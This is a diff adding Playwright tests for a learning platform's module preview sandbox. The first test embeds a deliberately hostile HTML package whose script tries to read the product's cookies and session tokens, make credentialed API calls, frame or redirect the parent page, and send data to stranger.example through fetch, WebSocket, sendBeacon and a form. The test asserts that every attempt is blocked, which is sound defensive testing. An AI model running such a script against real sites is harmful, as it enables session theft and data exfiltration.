@@ -1,0 +1,105 @@
+// Content that does what it may not makes the browser complain, so these stories are not watched for such complaints.
+import { expect, type Page, test } from '@playwright/test';
+import { makeModule } from './make-module.ts';
+import { people, signIn } from './people.ts';
+import { packageOf } from './small-package.ts';
+
+/** What a previewed module writes into its element `outcome`. */
+async function outcomeOf(page: Page, name: string) {
+  const [window] = await Promise.all([page.waitForEvent('popup'), page.getByRole('button', { name: `Förhandsgranska: ${name}` }).click()]);
+  const outcome = window.frameLocator('iframe').locator('#outcome');
+  await expect(outcome).not.toBeEmpty();
+  const text = (await outcome.textContent()) ?? '';
+  await window.close();
+  await expect(page.getByRole('button', { name: `Förhandsgranska: ${name}` })).toBeEnabled();
+  return text;
+}
+
+test('a hostile package reaches nobody and nothing but itself', async ({ page, baseURL }) => {
+  const product = baseURL ?? '';
+  const content = `http://m1.localhost:${Number(new URL(product).port) + 1}`;
+  const name = `Fientlig modul ${Date.now()}`;
+  const hostile = `<!doctype html><html lang="sv"><title>Fientlig</title><h1>Fientlig</h1><pre id="outcome"></pre><script>
+    const tries = {
+      'cookie of the product': async () => document.cookie,
+      'session of the product': async () => localStorage.getItem('token') || localStorage.getItem('refresh_token') || '',
+      'call with the session': () => fetch('${product}/api/Module', { credentials: 'include' }).then((reply) => reply.text()),
+      'blind call': () => fetch('${product}/message.json', { mode: 'no-cors' }).then(() => 'sent'),
+      'picture from the product': () => new Promise((resolve, reject) => {
+        const image = new Image();
+        image.onload = () => resolve('loaded');
+        image.onerror = () => reject(new Error('stopped'));
+        image.src = '${product}/favicon.svg';
+      }),
+      'page of the product in a frame': () => new Promise((resolve, reject) => {
+        const frame = document.body.appendChild(document.createElement('iframe'));
+        frame.onload = () => { try { resolve(frame.contentDocument.title); } catch (error) { reject(error); } };
+        frame.src = '${product}/';
+        setTimeout(() => reject(new Error('stopped')), 2000);
+      }),
+      'opener': async () => (window.opener || parent.opener || top.opener) ? 'found' : '',
+      'another package here': () => fetch('/scorm/p/1/index.html').then((reply) => reply.ok ? reply.text() : Promise.reject(new Error(reply.status))),
+      'another package at its host': () => fetch('${content}/scorm/p/1/index.html', { mode: 'no-cors' }).then(() => 'sent'),
+      'stranger': () => fetch('https://stranger.example/', { mode: 'no-cors' }).then(() => 'sent'),
+      'socket': () => new Promise((resolve, reject) => {
+        const socket = new WebSocket('wss://stranger.example/');
+        socket.onopen = () => resolve('open');
+        socket.onerror = () => reject(new Error('stopped'));
+      }),
+      'beacon': async () => { let stopped = false; document.addEventListener('securitypolicyviolation', () => { stopped = true; });
+        navigator.sendBeacon('https://stranger.example/beacon', 'x'); await new Promise((go) => setTimeout(go, 300)); return stopped ? '' : 'sent'; },
+      'form': () => new Promise((resolve, reject) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'form-action' && reject(new Error('stopped')));
+        const form = document.body.appendChild(document.createElement('form'));
+        form.action = 'https://stranger.example/'; form.target = '_blank'; form.submit();
+      }),
+      'service worker': () => navigator.serviceWorker.register('start.html').then(() => 'registered'),
+      'page around it': async () => { top.location.href = '${product}/?taken'; await new Promise((go) => setTimeout(go, 300)); return ''; },
+    };
+    (async () => {
+      const reached = [];
+      for (const [what, attempt] of Object.entries(tries)) {
+        try { const got = await attempt(); if (got) reached.push(what + ': ' + got); } catch {}
+      }
+      document.getElementById('outcome').textContent = reached.join('\\n') || 'nothing';
+    })();
+  </script></html>`;
+  await signIn(page, people.superuser);
+  await page.context().addCookies([{ name: 'hemlig', value: 'kaka', url: product }]);
+  await makeModule(page, name, await packageOf(hostile));
+  expect(await outcomeOf(page, name)).toBe('nothing');
+  await page.reload();
+  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
+});
+
+test('a package reaches outside only where it was allowed', async ({ page: superuser }) => {
+  const name = `Nyfiken modul ${Date.now()}`;
+  await signIn(superuser, people.superuser);
+  const page = `<!doctype html><html lang="sv"><title>Nyfiken</title><h1>Nyfiken</h1><p id="outcome"></p><script>
+    const seen = (text) => { document.getElementById('outcome').textContent += text + ' '; };
+    fetch('https://metrics.gesall-test.example/beacon', { method: 'POST' }).then(() => seen('ut'), () => seen('stopp'));
+  </script></html>`;
+  await makeModule(superuser, name, await packageOf(page));
+  // The world outside, as far as this test needs it.
+  await superuser
+    .context()
+    .route('https://metrics.gesall-test.example/**', (route) =>
+      route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'ok' }),
+    );
+
+  expect((await outcomeOf(superuser, name)).trim()).toBe('stopp');
+
+  const allow = superuser.getByRole('switch', { name: 'Tillåt metrics.gesall-test.example' });
+  await expect(async () => {
+    await superuser.reload();
+    await expect(allow).toBeVisible({ timeout: 1000 });
+  }).toPass();
+  await expect(superuser.getByText(/Försökt 1 gånger/)).toBeVisible();
+  await allow.click({ force: true });
+  await expect(allow).toBeChecked();
+  await expect.poll(async () => (await outcomeOf(superuser, name)).trim(), { timeout: 30_000 }).toBe('ut');
+
+  await superuser.getByLabel('Tillåt en adress till').fill('inte en adress');
+  await superuser.getByRole('button', { name: 'Tillåt', exact: true }).click();
+  await expect(superuser.getByRole('alert')).toBeVisible();
+});
